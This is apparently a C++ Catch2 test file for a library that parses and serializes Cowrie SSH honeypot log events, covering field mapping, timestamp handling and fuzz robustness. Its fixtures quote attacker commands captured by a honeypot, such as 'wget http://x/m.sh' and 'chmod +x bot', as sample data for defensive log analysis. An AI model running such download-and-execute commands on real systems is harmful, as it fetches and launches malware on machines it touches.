#include <catch2/catch_amalgamated.hpp>

#include <random>

#include "cowlog/schema.hpp"

using namespace cowlog;

TEST_CASE("parse_event maps command event fields", "[schema]") {
  auto ev = parse_event(
      R"({"eventid":"cowrie.command.input","timestamp":"2019-05-01T10:00:00.123456Z","session":"a1","src_ip":"10.0.0.9","message":"CMD: wget http://x/m.sh","input":"wget http://x/m.sh"})");
  CHECK(ev.eventid == "cowrie.command.input");
  CHECK(ev.kind() == EventKind::CommandInput);
  CHECK(ev.session == "a1");
  CHECK(ev.src_ip == "10.0.0.9");
  CHECK(ev.message == "CMD: wget http://x/m.sh");
  REQUIRE(ev.input.has_value());
  CHECK(*ev.input == "wget http://x/m.sh");
  CHECK(format_iso8601_us(ev.timestamp_us) == "2019-05-01T10:00:00.123456Z");
  CHECK(ev.extra.empty());
}

TEST_CASE("parse_event requires eventid and timestamp", "[schema]") {
  CHECK_THROWS_AS(parse_event(R"({"timestamp":"2019-05-01T10:00:00Z"})"),
                  MissingField);
  CHECK_THROWS_AS(parse_event(R"({"eventid":"cowrie.session.connect"})"),
                  MissingField);
}

TEST_CASE("parse_event maps credentials on login events", "[schema]") {
  auto ev = parse_event(
      R"({"eventid":"cowrie.login.failed","timestamp":"2020-02-01T00:00:00Z","username":"root","password":"123456","session":"b2","src_ip":"1.2.3.4","message":"login attempt"})");
  CHECK(ev.kind() == EventKind::LoginFailed);
  CHECK(ev.username == "root");
  CHECK(ev.password == "123456");
  CHECK(!ev.input.has_value());
}

TEST_CASE("parse_event structured errors", "[schema]") {
  CHECK_THROWS_AS(parse_event("not json at all"), MalformedJson);
  CHECK_THROWS_AS(parse_event("[1,2,3]"), MalformedJson);
  CHECK_THROWS_AS(parse_event(""), MalformedJson);
  CHECK_THROWS_AS(
      parse_event(
          R"({"eventid":"cowrie.session.connect","timestamp":"yesterday"})"),
      BadTimestamp);
  CHECK_THROWS_AS(
      parse_event(
          R"({"eventid":"cowrie.session.connect","timestamp":"2019-13-01T00:00:00Z"})"),
      BadTimestamp);
}

TEST_CASE("unknown fields land in extra, unknown eventids survive", "[schema]") {
  auto ev = parse_event(
      R"({"eventid":"cowrie.client.version","timestamp":"2019-05-01T10:00:00Z","version":"SSH-2.0-Go","ttylog":"x"})");
  CHECK(ev.kind() == EventKind::Other);
  CHECK(ev.eventid == "cowrie.client.version");
  REQUIRE(ev.extra.count("version") == 1);
  REQUIRE(ev.extra.count("ttylog") == 1);
  CHECK(ev.extra.at("ttylog") == "x");
  std::string text = serialize_event(ev);
  CHECK(text.find("\"ttylog\":\"x\"") != std::string::npos);
}

TEST_CASE("timestamp parsing accepts offsets and fractions", "[schema]") {
  CHECK(parse_iso8601_us("2019-05-01T10:00:00Z") ==
        parse_iso8601_us("2019-05-01T10:00:00.000000Z"));
  // +02:00 is two hours ahead of UTC
  CHECK(format_iso8601_us(parse_iso8601_us("2019-05-01T10:00:00+02:00")) ==
        "2019-05-01T08:00:00.000000Z");
  CHECK(format_iso8601_us(parse_iso8601_us("2019-05-01T10:00:00-01:30")) ==
        "2019-05-01T11:30:00.000000Z");
  // nanosecond input truncates to micros
  CHECK(format_iso8601_us(parse_iso8601_us("2019-05-01T10:00:00.123456789Z")) ==
        "2019-05-01T10:00:00.123456Z");
  CHECK(parse_iso8601_us("2020-02-29T00:00:00Z") > 0);  // leap day
  CHECK_THROWS_AS(parse_iso8601_us("2019-02-29T00:00:00Z"), BadTimestamp);
  CHECK_THROWS_AS(parse_iso8601_us("2019-05-01T24:00:00Z"), BadTimestamp);
  CHECK_THROWS_AS(parse_iso8601_us("2019-05-01T10:00:00X"), BadTimestamp);
}

TEST_CASE("serialize_event canonicalizes and round-trips", "[schema]") {
  auto ev = parse_event(
      R"({"eventid":"cowrie.session.connect","timestamp":"2019-05-01T10:00:00Z","session":"s1","src_ip":"9.8.7.6","sensor":"hp1","message":"New connection"})");
  std::string text = serialize_event(ev);
  CHECK(text.find("\"timestamp\":\"2019-05-01T10:00:00.000000Z\"") !=
        std::string::npos);
  CHECK(parse_event(text) == ev);

  ev.extra.emplace("ttylog", "tty/abc");
  ev.extra.emplace("duration", 42);
  CHECK(parse_event(serialize_event(ev)) == ev);
}

TEST_CASE("extract_command prefers input, falls back to CMD prefix", "[schema]") {
  CowrieEvent ev;
  ev.eventid = "cowrie.command.input";
  ev.input = "wget http://x/m.sh";
  CHECK(extract_command(ev) == "wget http://x/m.sh");

  ev.input.reset();
  ev.message = "CMD: uname -a";
  CHECK(extract_command(ev) == "uname -a");

  ev.message = "CMD: ";
  CHECK_THROWS_AS(extract_command(ev), EmptyCommand);

  ev.message = "something else entirely";
  CHECK_THROWS_AS(extract_command(ev), EmptyCommand);

  ev.eventid = "cowrie.login.failed";
  CHECK_THROWS_AS(extract_command(ev), NotCommandEvent);
}

TEST_CASE("extract_command is idempotent on its output", "[schema]") {
  CowrieEvent ev;
  ev.eventid = "cowrie.command.failed";
  ev.input = "  chmod +x bot  ";
  std::string once = extract_command(ev);
  CowrieEvent again;
  again.eventid = "cowrie.command.input";
  again.input = once;
  CHECK(extract_command(again) == once);
}

TEST_CASE("parse_event survives arbitrary bytes with structured errors",
          "[schema][property]") {
  std::mt19937_64 rng(20240517);
  for (int i = 0; i < 2000; ++i) {
    size_t len = rng() % 64;
    std::string junk;
    for (size_t k = 0; k < len; ++k)
      junk += static_cast<char>(rng() % 256);
    try {
      (void)parse_event(junk);
    } catch (const Error&) {
      // structured, expected
    }
  }
  SUCCEED("no crash on 2000 random inputs");
}
